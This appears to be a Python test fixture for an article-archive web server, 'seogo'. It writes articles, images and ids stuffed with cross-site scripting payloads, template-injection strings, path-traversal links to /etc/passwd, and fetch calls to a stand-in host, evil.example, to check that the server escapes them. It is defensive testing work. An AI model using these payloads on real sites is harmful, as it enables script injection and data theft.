"""An archive whose articles try to run scripts and to make requests, wherever a text of theirs is shown."""

from __future__ import annotations

import json
from collections.abc import Sequence
from itertools import product
from pathlib import Path
from typing import Final
from urllib.parse import quote

from seogo.articles.archive import Archive

OUTSIDE: Final = "evil.example"
_RUN: Final = f"document.title='ran';window.ran=1;alert(1);fetch('http://{OUTSIDE}/fetched')"

TEXTS: Final = (
    f"<script>{_RUN}</script>",
    f'"\'><img src=x onerror="{_RUN}">',
    f'</title></style></textarea></script><svg onload="{_RUN}">',
    f"<img src=http://{OUTSIDE}/image.png><link rel=stylesheet href=http://{OUTSIDE}/a.css>",
    f"' onmouseover='{_RUN}' x=' autofocus onfocus={_RUN} y=",
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{_RUN}</script><![CDATA[",
    f"<!--><script>{_RUN}</script>--><?xml-stylesheet href='http://{OUTSIDE}/a.xsl'?>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;script&#62;{_RUN}&#60;/script&#62;",
    f"{{{{ self.__init__.__globals__ }}}} {{% raw %}} ${{{_RUN}}} `${{{_RUN}}}`",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e \u2028\u2029 \u202e <\u0000script>".replace(
        "\0", ""
    ),
    f"<base href=http://{OUTSIDE}/><meta http-equiv=refresh content='0;url=http://{OUTSIDE}/'>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe><object data=http://{OUTSIDE}/o>",
    f"%3Cscript%3E{_RUN}%3C/script%3E +ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f'<form action=http://{OUTSIDE}/><input autofocus onfocus="{_RUN}"><button id=go>',
    f'<a href="javascript:{_RUN}" ping=http://{OUTSIDE}/ping>x</a> javascript:{_RUN}',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table>",
)

MARKDOWN: Final = (
    f"[a](javascript:{_RUN})",
    "[a](JaVaScRiPt:alert(1)) [b](&#106;avascript:alert(1)) [c](java&#10;script:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [b](vbscript:x) [c](file:///etc/passwd)",
    f"![a](http://{OUTSIDE}/image.png) ![b](//{OUTSIDE}/image.png) ![c](data:image/svg+xml,<svg/onload=alert(1)>)",
    f'[a](b.ko.md "x\\" onmouseover=\\"{_RUN}") ![a](real.png "\\"><script>{_RUN}</script>")',
    f"[a]: javascript:{_RUN}\n\n[a] ![a]",
    f'```"><script>{_RUN}</script>\n</code></pre><script>{_RUN}</script>\n```',
    f'<http://{OUTSIDE}/"onmouseover="{_RUN}> <javascript:alert(1)>',
    f'# <script>{_RUN}</script>\n\n## "><img src=x onerror={_RUN}>',
    f"| <script>{_RUN}</script> | b |\n|:-:|---|\n| ![a](http://{OUTSIDE}/t.png) | `<script>` |",
    f"<script>{_RUN}</script>\n\n<img src=x onerror={_RUN}>\n\n<!-- -->\n\n<?php ?>\n\n<![CDATA[<script>]]>",
    "![page](page.png) ![vector](vector.svg) [page](page.html) ![up](../../../etc/passwd)",
    f'![a](page.png"onerror="{_RUN}) ![a](<page.png" onerror="{_RUN}" x=">)',
)
"""Markdown that tries what plain texts cannot."""

IDS: Final = (
    *("plain", "%3cscript%3e", "a%22onmouseover=", "{{7*7}}", "${x}", "!$,^%{}[]-", "[a](b)"),
    *("..-+~_^", "%2e%2e%2fup", "%00", "a%23b", "가%ea%b0", "-rm", "~", "$(x)", "a;b"),
)
"""Ids, of which the archive takes some."""


def write_archive(folder: Path, *, most: int = 1_000) -> list[str]:
    """Write pairs of hostile articles, at most so many: the ids of those that the archive takes. What a pair lacks of texts
    and Markdown, the last one has."""
    folder.mkdir()
    (folder / "page.png").write_text(f"<script>{_RUN}</script>")
    (folder / "real.png").write_bytes(_PNG)
    (folder / "page.html").write_text(f"<script>{_RUN}</script>")
    (folder / "vector.svg").write_text(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script></svg>'
    )
    (folder / "seogo.yaml").write_text(f"title: {json.dumps(TEXTS[0][:190])}\n")
    count = min(most, len(TEXTS))
    for number in range(count):
        last = number == count - 1
        texts = TEXTS[number:] if last else TEXTS[number : number + 1]
        bodies = MARKDOWN[number:] if last else MARKDOWN[number : number + 1]
        for lang in ("ko", "en"):
            path = folder / f"hostile-{number}.{lang}.md"
            path.write_text(_article(lang, IDS[number % len(IDS)], texts, bodies))
            former = folder / "versions" / f"hostile-{number}.{lang}" / "2026-01-01T000000Z.md"
            former.parent.mkdir(parents=True, exist_ok=True)
            former.write_text(_article(lang, "", texts[::-1], bodies[:1]))
    scan = Archive(folder).scan()
    for problem in scan.problems:  # ids that are none: the others stay
        path = folder / problem.path
        lines = [line for line in path.read_text().splitlines() if not line.startswith("id: ")]
        path.write_text("\n".join(lines))
    scan = Archive(folder).scan()
    assert not scan.problems, scan.problems
    return list(scan.files)


def _article(lang: str, name: str, texts: Sequence[str], bodies: Sequence[str]) -> str:
    """An article file that says ``texts`` in every field."""
    title = " ".join(texts)[:900]
    facts: dict[str, object] = {
        "title": title,
        "source": texts[0],
        "url": f"https://{OUTSIDE}/" + "".join(texts[0].split()),
        "published": "2026-01-19",
        "authors": list(texts),
        "tags": list(texts),
        "summary": title,
        "rights": texts[0],
        "unknown": title,
        "alternates": [f"javascript:{_RUN}"],
    }
    if name:
        facts["id"] = f"{name}.{lang}"
    words = (
        "공격하는 글이다. 다리가 열렸다."
        if lang == "ko"
        else "A hostile article. The bridge opened."
    )
    plain = [text for text in texts if "\n" not in text]
    front = "\n".join(f"{key}: {json.dumps(value)}" for key, value in facts.items())
    return f"---\n{front}\n---\n{words}\n\n" + "\n\n".join([*plain, *bodies, words])


def addresses(ids: Sequence[str]) -> list[str]:
    """The pages of a server that show such articles, apart from the articles' own."""
    pages = ["/", "/search", "/search?q=script&size=100", "/tags", "/sources", "/authors", "/years"]
    pages += ["/help", "/nothing", "/images/page.png", "/images/vector.svg", "/images/page.html"]
    forms = ("/search?q={}", "/analyze?text={}", "/concordance?q={}", "/search?tag={}", "/{}")
    pages += [form.format(quote(text[:400])) for form, text in product(forms, TEXTS)]
    return pages


_PNG: Final = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000 1f15c4890000000d4944415478da63fcff"
    "9fa11e000782027f3dc848ef0000000049454e44ae426082".replace(" ", "")
)
